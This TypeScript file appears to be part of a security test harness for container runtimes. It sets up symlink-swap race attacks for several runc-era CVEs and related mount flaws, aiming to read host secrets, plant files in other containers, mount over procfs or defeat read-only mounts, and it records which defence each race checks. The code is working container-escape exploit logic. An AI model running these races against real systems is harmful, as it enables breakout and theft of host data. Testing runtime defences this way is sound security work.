/** A second container swaps files of a shared volume while the runtime makes the first: the name of a race says what it swaps. */
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, renameSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { type Attack, skipped } from "../attack.ts";
import { BATCH, type Race, race, type Track } from "../files/race.ts";
import { bind, imagesDev, lay, layFile, smallRootfs, without } from "../files/trap.ts";
import { SECRET } from "../files/victim.ts";

const numbers = [...Array(BATCH).keys()];

/** /volume/place is a directory that has `below`, or a link to the victim, which has that too. */
function directoryOrLink({ volume, victim, subject }: Track): void {
  mkdirSync(join(volume, "place/below"), { recursive: true });
  symlinkSync(victim.directory, join(volume, "link"));
  mkdirSync(join(subject.directory, "source/below"), { recursive: true });
}

/** A symlink into a procfs is refused: with more attempts in one container hardly one would be made. */
const ATTEMPTS_ON_PROC = 2;

const SWAPPED = ["place", "link"] as const;

const TARGETS: Race = {
  swapped: SWAPPED,
  prepare: directoryOrLink,
  change(config, { volume, subject }) {
    config.mounts.push(bind(volume, "/volume"));
    for (const number of numbers)
      config.mounts.push(bind(join(subject.directory, "source"), number % 2 === 0 ? "/volume/place" : "/volume/place/below"));
  },
};

const MISSING: Race = {
  swapped: SWAPPED,
  prepare: directoryOrLink,
  change(config, { volume, subject, turn }) {
    config.mounts.push(bind(volume, "/volume"));
    for (const number of numbers)
      config.mounts.push(
        bind(join(subject.directory, "source"), `/volume/place/new-${turn}-${number}${number % 2 === 0 ? "" : "/deeper"}`),
      );
  },
};

/** The volume is /dev of the container: the null device in it, or a link to what the container is not to read or write. */
const NULL: Race = {
  swapped: ["null", "link"],
  prepare({ volume, rootfs }) {
    execFileSync("mknod", ["-m", "666", join(volume, "null"), "c", "1", "3"]);
    symlinkSync("/other", join(volume, "link"));
    layFile(rootfs, "/other", SECRET);
    for (const number of numbers) layFile(rootfs, `/masked/${number}`, "to be hidden");
  },
  change(config, { volume }) {
    without(config, "/dev");
    config.mounts.push(bind(volume, "/dev"));
    Object.assign(config.linux, { maskedPaths: numbers.map((number) => `/masked/${number}`), readonlyPaths: [] });
  },
  command: "cat /masked/*",
};

/** The volume is /dev of the container: a file to mount the terminal on, or a link to a file of the host. */
const CONSOLE: Race = {
  swapped: ["console", "link"],
  attempts: 1,
  terminal: true,
  prepare({ volume, victim }) {
    layFile(volume, "console", "");
    mkdirSync(join(volume, "pts"));
    symlinkSync(join(victim.directory, "secret"), join(volume, "link"));
  },
  change(config, { volume }) {
    imagesDev(config);
    config.mounts.unshift(bind(volume, "/dev"));
  },
};

/** What is copied into each tmpfs: a file, or a link to a file of the host. */
const COPIED: Race = {
  swapped: ["copied/file", "link"],
  prepare({ volume, victim }) {
    layFile(volume, "copied/file", "of the image");
    symlinkSync(join(victim.directory, "secret"), join(volume, "link"));
  },
  change(config, { volume }) {
    for (const number of numbers) {
      config.mounts.push(bind(volume, `/tmp/${number}`));
      config.mounts.push({ destination: `/tmp/${number}/copied`, type: "tmpfs", source: "tmpfs", options: ["tmpcopyup", "size=64k"] });
    }
  },
  command: "cat /tmp/*/copied/file",
};

const SYSCTLS = ["kernel.domainname", "net.ipv4.ip_default_ttl", "net.ipv4.ip_forward", "net.ipv4.tcp_syn_retries"];

/** /proc/sys is a directory of the attacker's, or a link to that of a procfs: the paths that are checked first can be sound ones. */
const SYSCTL: Race = {
  swapped: ["sys", "link"],
  attempts: SYSCTLS.length,
  prepare({ volume, rootfs }) {
    lay(rootfs, "/proc", "/volume");
    for (const key of SYSCTLS) lay(volume, `sys/${key.replaceAll(".", "/")}`, "/victim/secret");
    symlinkSync("/real/sys", join(volume, "link"));
  },
  change(config, { volume, victim }) {
    without(config, "/proc");
    config.mounts.push({ destination: "/real", type: "proc", source: "proc" });
    config.mounts.push(bind(volume, "/volume"), bind(victim.directory, "/victim"));
    const sysctl = Object.fromEntries(SYSCTLS.map((key) => [key, "1"]));
    Object.assign(config.linux, { sysctl, maskedPaths: [], readonlyPaths: [] });
  },
};

/** /volume/place is a directory, or a link to another mount of the container, which would take the attributes. */
const READ_ONLY: Race = {
  swapped: SWAPPED,
  ways: ["mount(2)", "openat2", "component walk"],
  prepare({ volume, subject }) {
    mkdirSync(join(volume, "place"));
    symlinkSync("/decoy", join(volume, "link"));
    for (const name of ["protected", "decoy"]) mkdirSync(join(subject.directory, name));
  },
  change(config, { volume, subject }) {
    config.mounts.push(bind(volume, "/volume"), bind(join(subject.directory, "decoy"), "/decoy"));
    for (const _ of numbers) config.mounts.push(bind(join(subject.directory, "protected"), "/volume/place", "ro"));
  },
  got(_, mountinfo) {
    const writable = mountinfo
      .split("\n")
      .filter((line) => line.split(" ")[3]?.endsWith("/protected") && !/^\S+ \S+ \S+ \S+ \S+ ro\b/.test(line));
    return writable.length === 0 ? "" : `${writable.length} read-only mounts are writable`;
  },
};

/** /volume/place is a directory, or a link to the container's procfs; both have the file that is mounted on. */
const OVER_PROC: Race = {
  swapped: SWAPPED,
  prepare({ volume, subject }) {
    layFile(volume, "place/version", "");
    symlinkSync("/proc", join(volume, "link"));
    layFile(subject.directory, "offer", "the attacker's own");
  },
  change(config, { volume, subject }) {
    config.mounts.push(bind(volume, "/volume"));
    for (const number of numbers)
      if (number < ATTEMPTS_ON_PROC) config.mounts.push(bind(join(subject.directory, "offer"), "/volume/place/version"));
  },
  got: (_, mountinfo) => (/ \S*\/proc\/version /.test(mountinfo) ? "the attacker's file is mounted over /proc/version" : ""),
  attempts: ATTEMPTS_ON_PROC,
};

/** What is copied goes to the tmpfs at `place`, or to where the link leads. */
const COPY_TARGET: Race = {
  swapped: SWAPPED,
  prepare({ volume }) {
    layFile(volume, "place/planted", "the attacker's own");
    symlinkSync("/usr/bin", join(volume, "link"));
  },
  change(config, { volume }) {
    for (const number of numbers) {
      config.mounts.push(bind(volume, `/tmp/${number}`));
      config.mounts.push({ destination: `/tmp/${number}/place`, type: "tmpfs", source: "tmpfs", options: ["tmpcopyup", "size=64k"] });
    }
  },
  got: ({ rootfs }) => (existsSync(join(rootfs, "usr/bin/planted")) ? "a file was planted in /usr/bin of the other container" : ""),
};

/** The source of mounts with mapped ids is a directory, or a link to another: whatever is mounted has to be mapped. */
const MAPPED: Race = {
  swapped: SWAPPED,
  // Without the newer system calls there are no such mounts.
  ways: ["openat2", "component walk"],
  prepare({ volume, subject }) {
    mkdirSync(join(volume, "place"));
    mkdirSync(join(subject.directory, "other"));
    symlinkSync(join(subject.directory, "other"), join(volume, "link"));
  },
  change(config, { volume }) {
    const ids = [{ containerID: 0, hostID: 100_000, size: 1_000 }];
    for (const number of numbers)
      config.mounts.push({ ...bind(join(volume, "place"), `/tmp/${number}`), uidMappings: ids, gidMappings: ids });
  },
  got(_, mountinfo) {
    const plain = mountinfo.split("\n").filter((line) => /\/tmp\/\d+$/.test(line.split(" ")[4] ?? "") && !line.includes("idmapped"));
    return plain.length === 0 ? "" : `the ids of ${plain.length} mounts are the host's`;
  },
};

/** The root filesystem itself, or a link to another one. */
const ROOT: Race = {
  swapped: ["root", "link"],
  attempts: 1,
  prepare({ volume, rootfs, subject }) {
    const other = smallRootfs(subject);
    layFile(other, "secret", SECRET);
    renameSync(rootfs, join(volume, "root"));
    symlinkSync(other, join(volume, "link"));
  },
  change(config, { volume }) {
    config.root.path = join(volume, "root");
  },
  command: "cat /secret; true",
};

export const ATTACKS: readonly Attack[] = [
  {
    id: "CVE-2021-30465",
    title: "a second container swaps mount targets and their parents in a shared volume with symlinks to the host",
    mechanism:
      "the target is opened once, inside the root, and mounted on by that descriptor (move_mount, or mount(2) onto /proc/self/fd/N)",
    defences: "mount-by-path",
    run: race(TARGETS),
  },
  {
    id: "CVE-2024-45310",
    title: "parents of missing mount targets are swapped with symlinks, so that directories are made on the host",
    mechanism: "every component is made in the descriptor of its parent, and opened with O_NOFOLLOW",
    defences: "make-by-path",
    run: race(MISSING),
  },
  {
    id: "CVE-2025-31133 (race)",
    title: "/dev is a shared volume, whose null device is swapped with a symlink while paths are masked",
    mechanism:
      "masks are the host's null device. If it cannot be cloned, the container's null device is opened once, and this descriptor is verified and bound",
    defences: "null-device",
    run: race(NULL),
  },
  {
    id: "CVE-2025-52565 (race)",
    title: "/dev is a shared volume, whose console is swapped with a symlink while the terminal is mounted on it",
    mechanism: "/dev/console is opened once, without symlinks, and the terminal is mounted on that descriptor",
    defences: "in-root,device-link",
    run: race(CONSOLE),
  },
  {
    id: "CVE-2025-52881 (race)",
    title: "a directory in the place of /proc/sys is swapped with a symlink to the real one while sysctls are written",
    mechanism: "the container's /proc is not used: the host's verified procfs is held open",
    defences: "held-proc",
    run: race(SYSCTL),
  },
  {
    id: "tmpcopyup (race)",
    title: "a file that is copied into a tmpfs is swapped with a symlink to a file of the host",
    mechanism: "files are opened with O_NOFOLLOW, and must be regular",
    defences: "copy-kinds",
    run: race(COPIED),
  },
  {
    id: "mapped ids (race)",
    title: "the source of mounts with mapped ids is swapped between its opening, the mapping and the mounting",
    mechanism: "the source is opened once; its descriptor is mapped and then mounted, and no path is looked up again",
    defences: "source-by-path",
    run: async (subject) => (subject.name === "runc" ? skipped("runc 1.1 passes over the ids of mounts") : await race(MAPPED)(subject)),
  },
  {
    id: "root filesystem a symlink (race)",
    title: "the root filesystem is swapped with a symlink to another directory while the container is made",
    mechanism: "it is opened once, with O_NOFOLLOW, and bound by its descriptor",
    defences: "root-link",
    run: race(ROOT),
  },
  {
    id: "read-only volume (race)",
    title: "the target of a read-only mount is swapped with a symlink to another mount, which becomes read-only in its place",
    mechanism: "a mount gets its attributes before it is attached; with mount(2), the object found afterwards must be the new mount",
    defences: "mount-by-path",
    run: race(READ_ONLY),
  },
  {
    id: "CVE-2025-52881 (mount over /proc, race)",
    title: "a mount target is swapped with a symlink into the container's procfs",
    mechanism: "a file found inside a procfs must be the same file that is found without symlinks",
    defences: "procfs-link",
    run: race(OVER_PROC),
  },
  {
    id: "tmpcopyup (target, race)",
    title: "the place of a tmpfs is swapped with a symlink, so that copied files land in a directory of another container",
    mechanism: "files are copied only into the mount that covers their source directory",
    defences: "mount-by-path",
    run: race(COPY_TARGET),
  },
];
